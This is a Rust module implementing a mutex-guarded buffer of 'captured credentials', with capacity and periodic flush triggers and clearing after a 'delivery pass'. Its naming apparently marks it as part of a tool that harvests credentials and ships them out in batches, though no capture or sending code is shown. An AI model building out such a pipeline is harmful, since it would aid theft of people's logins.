use std::sync::{Mutex, MutexGuard, PoisonError};

use crate::record::CapturedCredential;

/// Nominal record capacity before insertions demand an eager flush.
pub const DEFAULT_CAPACITY: usize = 200;

/// Every Nth insertion raises a periodic flush trigger even below capacity,
/// keeping the unsynced backlog bounded.
pub const FLUSH_STRIDE: usize = 50;

/// Flush demand reported by an insertion.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FlushTrigger {
    /// The store was at or above capacity before the append. A delivery
    /// pass must run before meaningfully more capture can happen.
    AtCapacity,
    /// The post-append count crossed a stride boundary.
    Periodic,
}

/// Fixed-capacity, insertion-ordered credential store.
///
/// Capacity is a soft threshold: `insert` always appends and instead
/// reports when the caller owes a flush. Records leave the store only via
/// [`CredentialStore::clear_delivered`] after a fully delivered pass.
pub struct CredentialStore {
    records: Mutex<Vec<CapturedCredential>>,
    capacity: usize,
}

impl CredentialStore {
    pub fn new(capacity: usize) -> Self {
        Self {
            records: Mutex::new(Vec::new()),
            capacity,
        }
    }

    pub fn with_default_capacity() -> Self {
        Self::new(DEFAULT_CAPACITY)
    }

    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// Appends a record, never dropping it, and reports whether this
    /// insertion demands a flush. The capacity trigger wins over the
    /// stride trigger when both would fire.
    pub fn insert(&self, record: CapturedCredential) -> Option<FlushTrigger> {
        let mut records = self.lock();
        let at_capacity = records.len() >= self.capacity;
        records.push(record);

        if at_capacity {
            Some(FlushTrigger::AtCapacity)
        } else if records.len() % FLUSH_STRIDE == 0 {
            Some(FlushTrigger::Periodic)
        } else {
            None
        }
    }

    /// Copy of every stored record in insertion order. Nothing is removed;
    /// a delivery pass works from this snapshot and clears separately.
    pub fn snapshot(&self) -> Vec<CapturedCredential> {
        self.lock().clone()
    }

    /// Removes the first `delivered` records. Called only after a pass
    /// delivered its whole snapshot, so records inserted while the pass
    /// was in flight stay put.
    pub fn clear_delivered(&self, delivered: usize) {
        let mut records = self.lock();
        let n = delivered.min(records.len());
        records.drain(..n);
    }

    pub fn len(&self) -> usize {
        self.lock().len()
    }

    pub fn is_empty(&self) -> bool {
        self.lock().is_empty()
    }

    fn lock(&self) -> MutexGuard<'_, Vec<CapturedCredential>> {
        self.records.lock().unwrap_or_else(PoisonError::into_inner)
    }
}
